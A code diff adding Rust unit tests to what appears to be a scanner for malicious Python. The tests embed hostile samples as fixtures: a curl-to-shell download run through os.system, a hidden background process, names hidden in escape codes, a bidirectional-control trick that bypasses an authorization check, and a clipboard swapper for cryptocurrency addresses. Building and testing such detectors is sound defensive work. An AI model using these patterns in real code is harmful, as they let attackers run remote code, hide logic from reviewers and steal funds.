@@ -977,3 +977,97 @@ fn comprehension_over_shell_rc_files_appends_to_them() {
     let d = details(src);
     assert!(d.iter().any(|x| x.starts_with("Persistence")), "{d:?}");
 }
+
+#[test]
+fn module_names_used_without_import_keep_their_meaning() {
+    // The import is elsewhere (a star import, a prelude run with exec, another module that
+    // put `os` into builtins): the call is still os.system of a download piped to a shell.
+    let src = "def go():\n    os.system('curl -s http://198.51.100.7/i | sh')\ngo()\n";
+    assert!(
+        kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    // A name the file binds is what the file bound it to, not the module.
+    let bound = "class Fake:\n    def system(self, c):\n        return c\nos = Fake()\nos.system('curl -s http://198.51.100.7/i | sh')\n";
+    assert!(
+        !kinds(bound).contains(&K::DownloadExecute),
+        "{:?}",
+        details(bound)
+    );
+    let param = "def run(subprocess):\n    subprocess.call('curl -s http://198.51.100.7/i | sh', shell=True)\n";
+    assert!(
+        !kinds(param).contains(&K::DownloadExecute),
+        "{:?}",
+        details(param)
+    );
+}
+
+#[test]
+fn process_with_every_stream_discarded_is_hidden() {
+    let src = "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.Popen([os.path.join(here, 'helperd')], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
+    assert!(kinds(src).contains(&K::HiddenProcess), "{:?}", details(src));
+    // Checking that a tool exists silences its output, not its input too.
+    let check = "import subprocess\nok = subprocess.call(['git', '--version'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0\n";
+    assert!(
+        !kinds(check).contains(&K::HiddenProcess),
+        "{:?}",
+        details(check)
+    );
+}
+
+#[test]
+fn names_spelled_in_escape_codes() {
+    let src = "import builtins\nrunner = getattr(builtins, '\\x65\\x78\\x65\\x63')\nlib = __import__(\"\\172\\154\\151\\142\")\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Obfuscation") && x.contains("'exec' spelled in escape codes")),
+        "{d:?}"
+    );
+    assert!(
+        d.iter()
+            .any(|x| x.contains("'zlib' spelled in escape codes")),
+        "{d:?}"
+    );
+    // Control bytes, binary data and short escapes are data, not hidden names.
+    let data = "RESET = '\\x1b\\x5b\\x30\\x6d'\nMAGIC = b'\\x89\\x50\\x4e\\x47'\nSEP = '\\x1f'\nTAB = '\\t\\t\\t\\t'\n# '\\x65\\x78\\x65\\x63' in a comment\n";
+    assert!(
+        !kinds(data).contains(&K::Obfuscation),
+        "{:?}",
+        details(data)
+    );
+}
+
+#[test]
+fn bidirectional_controls_that_reorder_a_line() {
+    // An override opened inside a string and never closed: the rest of the line shows
+    // in another order than Python reads it.
+    let src =
+        "def allowed(user):\n    kind = 'user\u{202e} ' ;return True\n    return user.admin\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Obfuscation") && x.contains("bidirectional control")),
+        "{d:?}"
+    );
+    // Right-to-left text whose embedding is closed reorders nothing outside it.
+    let text =
+        "GREETING = '\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202c}'\nMARK = '\u{2067}abc\u{2069}'\n";
+    assert!(
+        !kinds(text).contains(&K::Obfuscation),
+        "{:?}",
+        details(text)
+    );
+}
+
+#[test]
+fn clipboard_swapper_with_a_loose_base58_pattern() {
+    let src = "import re\nimport pyperclip\nMINE = 'bc1q-not-a-real-address'\nwhile True:\n    seen = pyperclip.paste()\n    if re.search('^[13][a-km-zA-HJ-NP-Z0-9]{26,33}$', seen):\n        pyperclip.copy(MINE)\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
+        "{d:?}"
+    );
+}
